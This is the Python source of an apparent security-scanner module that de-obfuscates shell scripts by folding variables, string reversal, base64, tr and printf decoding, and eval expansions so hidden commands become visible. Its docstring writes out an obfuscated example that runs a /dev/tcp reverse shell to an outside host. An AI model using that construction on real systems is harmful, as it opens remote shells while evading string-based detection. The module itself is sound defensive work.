"""Shell constant folding: the commands a script assembles at run time, written out.

``h=$(echo 7.311.0.302 | rev)``, ``e="ex""ec"``, ``r="3<>${d}${t}/${h}/443"`` and
``eval "$e $r"`` run ``exec 3<>/dev/tcp/203.0.113.7/443``; string rules see none of it.
:func:`fold_shell` rewrites each line with known variables substituted and constant
substitutions (``$(echo … | rev)``, ``| base64 -d``, ``| tr``, ``printf '\\x..'``,
``$'\\x..'``, helper functions that only transform ``$1``) replaced by their values, and
adds what ``eval``/``sh -c`` of a constant would run as a line of its own.

Bounded: long lines are left alone, each line is rewritten a fixed number of rounds, values
are capped, and at most :data:`_MAX_VARS` variables are remembered.
"""

from __future__ import annotations

import base64
import binascii
import codecs
import re
import shlex
import warnings
from collections.abc import Iterable
from dataclasses import dataclass, field
from functools import partial

from tank.scanner.knowledge import control_target

__all__ = ["ShellFolded", "fold_lines", "fold_shell"]

_MAX_LINE = 4000
_MAX_VALUE = 16 * 1024
_MAX_VARS = 500
_ROUNDS = 8

_ASSIGN = re.compile(
    r"(?:^|[;&]\s*|\blocal\s+|\bexport\s+|\breadonly\s+|\bdeclare\s+(?:-\w+\s+)?)(\w+)="
)
_VAR = re.compile(
    r"\$\{(\w+)(?:\[([@*]|\d+)\])?(?:(//?)([^/}]*)/([^}]*)|:(\d+)(?::(\d+))?)?\}|\$(\w+)"
)
_SUBST = re.compile(r"\$\(([^()]*)\)|`([^`]*)`")
_ANSI_C = re.compile(r"\$'((?:[^'\\]|\\.)*)'")
_FUNC = re.compile(r"^\s*(?:function\s+)?(\w+)\s*\(\s*\)\s*\{\s*(.*?);?\s*\}\s*$")
_PRINTF_S = re.compile(r"(?:[^%]|%s|%%)*")
#: An unfolded command substitution (``$(uname -s)``): code, where a bare ``$var`` is unknown.
_UNFOLDED = re.compile(r"\$\(")
_FOR = re.compile(r"^\s*for\s+(\w+)\s+in\s+([^;]+?)\s*(?:;|$)")
_EVAL = re.compile(r"(?:^|[;&|]\s*)(?:eval|(?:ba|z|da)?sh\s+-c)\s+(.+?)\s*(?:$|;|&&|\|\|)")


@dataclass(slots=True)
class ShellFolded:
    """Lines with constants folded (``(number, text)``, evaluated strings added after their
    line), the variables found constant, and the helper functions that transform ``$1``."""

    lines: list[tuple[int, str]] = field(default_factory=list)
    values: dict[str, str] = field(default_factory=dict)
    helpers: dict[str, str] = field(default_factory=dict)


#: Environment variables that name the user's folders: a value built on them
#: (``SSH_DIR="$HOME/.ssh"``) is kept as written, so later lines read ``$HOME/.ssh/…``.
_ENV_PATH = re.compile(
    r"\$\{?(HOME|USER|LOGNAME|TMPDIR|XDG_[A-Z_]+|APPDATA|LOCALAPPDATA|USERPROFILE)\b\}?"
)
_ENV_MARK = "\ue000"


def _unquote(word: str) -> str | None:
    """The value of a word made only of quoted and plain constant parts (and the user's
    folder variables, kept as ``$HOME``), else None."""
    names: list[str] = []

    def mark(match: re.Match[str]) -> str:
        names.append(match.group(1))
        return _ENV_MARK

    word = _ENV_PATH.sub(mark, word) if word else word
    if not word or "$" in word.replace("\\$", "") or "`" in word:
        return None
    try:
        parts = shlex.split(word, posix=True)
    except ValueError:
        return None
    if len(parts) != 1:
        return None
    value = parts[0]
    for name in names:
        value = value.replace(_ENV_MARK, "$" + name, 1)
    return value


def _escapes(text: str) -> str:
    try:
        with warnings.catch_warnings():  # an unknown escape (``\q``) stays as written
            warnings.simplefilter("ignore", DeprecationWarning)
            return codecs.decode(text.encode("latin-1", "backslashreplace"), "unicode_escape")
    except (UnicodeDecodeError, ValueError):
        return text


def _filter(value: str, command: list[str]) -> str | None:
    """``value`` through one filter of a constant pipeline, or None if it is not one."""
    if not command:
        return None
    name, args = command[0], command[1:]
    if name == "rev":
        return "\n".join(line[::-1] for line in value.split("\n"))
    if name in ("base64", "base32") and set(args) & {"-d", "--decode", "-D"}:
        try:
            raw = (
                base64.b64decode(value.strip(), validate=True)
                if name == "base64"
                else base64.b32decode(value.strip())
            )
        except (binascii.Error, ValueError):
            return None
        return raw[:_MAX_VALUE].decode("utf-8", "replace")
    if name == "xxd" and "-r" in args and "-p" in args:
        try:
            return bytes.fromhex(value.strip())[:_MAX_VALUE].decode("utf-8", "replace")
        except ValueError:
            return None
    if name == "tr" and len(args) == 2 and not any(a.startswith("-") for a in args):
        source, target = _tr_set(args[0]), _tr_set(args[1])
        if source and target:
            target += target[-1] * (len(source) - len(target))
            return value.translate(str.maketrans(source, target[: len(source)]))
    return None


def _tr_set(spec: str) -> str:
    out: list[str] = []
    index = 0
    while index < len(spec) and len(out) < 512:
        if index + 2 < len(spec) and spec[index + 1] == "-":
            start, end = ord(spec[index]), ord(spec[index + 2])
            out.extend(chr(c) for c in range(start, min(end, start + 256) + 1))
            index += 3
        else:
            out.append(spec[index])
            index += 1
    return "".join(out)


def _run_constant(command: str, helpers: dict[str, str]) -> str | None:
    """The output of a constant ``echo …| filter …`` / ``printf …`` pipeline, else None;
    for ``A || B`` (a portable spelling: ``base64 -D || base64 -d``), the first that folds."""
    if "||" in command:
        for alternative in command.split("||")[:4]:
            value = _run_constant(alternative, helpers)
            if value is not None:
                return value
        return None
    stages = [s.strip() for s in re.split(r"(?<!\|)\|(?!\|)", command)]
    try:
        first = shlex.split(stages[0], posix=True)
    except ValueError:
        return None
    if not first:
        return None
    if "<<<" in first[:-1] and first.index("<<<") == len(first) - 2:
        # ``rev <<<'c- hsab'``: the word is the input of the first command
        stages = ["echo " + shlex.quote(first[-1]), shlex.join(first[:-2]), *stages[1:]]
        first = ["echo", first[-1]]
    elif len(first) >= 2 and first[-1].startswith("<<<") and len(first[-1]) > 3:
        stages = ["echo " + shlex.quote(first[-1][3:]), shlex.join(first[:-1]), *stages[1:]]
        first = ["echo", first[-1][3:]]
    if first[0] in helpers and len(first) == 2:
        return _run_constant(helpers[first[0]].replace("$1", shlex.quote(first[1])), {})
    if first[0] in helpers and len(first) == 1 and len(stages) == 1:
        # a function that prints a constant (``_host() { printf '%s.%s' a b; }``)
        return _run_constant(helpers[first[0]], {})
    if first[0] == "echo":
        words = [w for w in first[1:] if w not in ("-n", "-e")]
        value = " ".join(words)
        if "-e" in first[1:3]:
            value = _escapes(value)
    elif first[0] == "printf" and len(first) >= 2:
        fmt, args = first[1], first[2:]
        if args and fmt in ("%s", "%s\\n", "%b"):
            value = _escapes(args[0]) if fmt == "%b" else args[0]
        elif not args and "%" not in fmt:
            value = _escapes(fmt)
        elif args and _PRINTF_S.fullmatch(fmt) and fmt.count("%s") == len(args):
            # printf '%s.%s' a b: the pieces of a host or a command put together
            pieces = iter(args)
            value = _escapes(re.sub(r"%s", lambda _: next(pieces).replace("\\", "\\\\"), fmt))
        else:
            return None
    else:
        return None
    if "$" in _UNFOLDED.sub("", value) or ("$" in value and len(stages) > 1):
        return None
    for stage in stages[1:]:
        try:
            words = shlex.split(stage, posix=True)
        except ValueError:
            return None
        result = _filter(value, words)
        if result is None:
            return None
        value = result
    return value.rstrip("\n")[:_MAX_VALUE]


def _substitute(line: str, values: dict[str, str]) -> str:
    """Known variables replaced by their values, except inside single quotes."""

    def sub(match: re.Match[str]) -> str:
        name = match.group(1) or match.group(8)
        if name not in values:
            return match.group(0)
        value = values[name]
        if match.group(2) and match.group(2) not in "@*":
            items = value.split(" ")
            index = int(match.group(2))
            value = items[index] if index < len(items) else ""
        if match.group(3):  # ${v/pat/rep}, ${v//pat/rep}: literal patterns only
            count = 0 if match.group(3) == "//" else 1
            if match.group(4) and not re.search(r"[*?\[]", match.group(4)):
                value = value.replace(match.group(4), match.group(5), count or -1)
        elif match.group(6):  # ${v:offset:length}
            start = int(match.group(6))
            end = start + int(match.group(7)) if match.group(7) else None
            value = value[start:end]
        return value

    parts = re.split(r"('[^']*')", line)
    for index in range(0, len(parts), 2):
        parts[index] = _VAR.sub(sub, parts[index])
    return "".join(parts)


def _in_double_quotes(line: str, at: int) -> bool:
    """Whether position ``at`` of ``line`` is inside a double-quoted string."""
    inside, single, index = False, False, 0
    while index < at:
        char = line[index]
        if char == "\\" and not single:
            index += 2
            continue
        if char == "'" and not inside:
            single = not single
        elif char == '"' and not single:
            inside = not inside
        index += 1
    return inside


def _as_word(value: str, line: str, at: int) -> str:
    """A substitution's output written back where it stood: quoted as one word, or, inside
    double quotes, as the text it becomes there (``"$(f) x"`` is ``"bash -c x"``)."""
    if _in_double_quotes(line, at):
        return re.sub(r'(["\\$`])', r"\\\1", value)
    return shlex.quote(value)


def _fold_substitution(match: re.Match[str], line: str, helpers: dict[str, str]) -> str:
    out = _run_constant(match.group(1) or match.group(2) or "", helpers)
    return match.group(0) if out is None else _as_word(out, line, match.start())


def fold_line(line: str, values: dict[str, str], helpers: dict[str, str]) -> str:
    """One line with known variables and constant substitutions written out."""
    if len(line) > _MAX_LINE:
        return line
    for _ in range(_ROUNDS):
        before = line
        line = _ANSI_C.sub(lambda m: shlex.quote(_escapes(m.group(1))), line)
        line = _substitute(line, values)
        if len(line) > _MAX_LINE:
            return before
        line = _SUBST.sub(partial(_fold_substitution, line=line, helpers=helpers), line)
        if len(line) > _MAX_LINE:
            return before
        if line == before:
            break
    return line


def _assignments(line: str) -> list[tuple[str, str]]:
    """``(name, raw value)`` for each ``name=value`` (or ``name=(a b c)``) on the line."""
    out = []
    for match in _ASSIGN.finditer(line):
        rest = line[match.end() :]
        if rest.startswith("("):
            end = rest.find(")")
            if end < 0:
                continue
            try:
                items = shlex.split(rest[1:end], posix=True)
            except ValueError:
                continue
            out.append((match.group(1), "(" + " ".join(items) + ")"))
            continue
        word = re.match(r"(?:'[^']*'|\"(?:[^\"\\]|\\.)*\"|[^\s;&|])*", rest)
        out.append((match.group(1), word.group(0) if word else ""))
    return out


def _loop_variable(line: str, values: dict[str, str]) -> None:
    """``for rc in ~/.bashrc ~/.zshrc``: the variable is each word in turn, remembered as one
    of them, the first that names a persistence location (a start-up file, a hook, a job)
    or else the first, so that the folded body reads as one real iteration."""
    loop = _FOR.match(line)
    if not loop or len(values) >= _MAX_VARS:
        return
    try:
        words = shlex.split(loop.group(2), posix=True)
    except ValueError:
        return
    if words and not any(_UNFOLDED.search(w) or "`" in w for w in words):
        chosen = next((w for w in words[:64] if control_target(w)), words[0])
        values[loop.group(1)] = chosen[:_MAX_VALUE]


def fold_shell(text: str) -> ShellFolded:
    """Every line of ``text`` folded, learning constant variables and helpers as it goes."""
    return fold_lines(enumerate(text.split("\n"), start=1))


def fold_lines(lines: Iterable[tuple[int, str]]) -> ShellFolded:
    """:func:`fold_shell` over ``(number, logical line)`` pairs (continuations joined)."""
    folded = ShellFolded()
    for number, raw in lines:
        stripped = raw.strip()
        if not stripped or stripped.startswith("#"):
            continue
        helper = _FUNC.match(stripped)
        if helper and "$1" in helper.group(2) and "|" in helper.group(2):
            folded.helpers[helper.group(1)] = helper.group(2)
            continue
        if helper and "$" not in _UNFOLDED.sub("", helper.group(2)):
            # a function printing a constant: known by its folded body
            body = fold_line(helper.group(2), folded.values, folded.helpers)
            if len(folded.helpers) < _MAX_VARS and _run_constant(body, folded.helpers):
                folded.helpers[helper.group(1)] = body
        if stripped.startswith("for "):
            _loop_variable(fold_line(stripped, folded.values, folded.helpers), folded.values)
        line = fold_line(stripped, folded.values, folded.helpers)
        folded.lines.append((number, line))
        for name, raw_value in _assignments(line):
            if raw_value.startswith("("):
                value: str | None = raw_value[1:-1]
            else:
                value = _unquote(raw_value) if raw_value else ""
            if value is not None and len(folded.values) < _MAX_VARS:
                folded.values[name] = value[:_MAX_VALUE]
            else:
                folded.values.pop(name, None)
        for evaluated in _EVAL.finditer(line):
            code = _unquote(evaluated.group(1))
            if code is None:
                try:
                    code = " ".join(shlex.split(evaluated.group(1), posix=True))
                except ValueError:
                    code = None

            # shlex keeps ``\$`` inside double quotes; the shell reads it as ``$``
            code = re.sub(r"\\([$`])", r"\1", code) if code else code
            if code and "$" not in _UNFOLDED.sub("", code):
                folded.lines.append((number, code))
    return folded
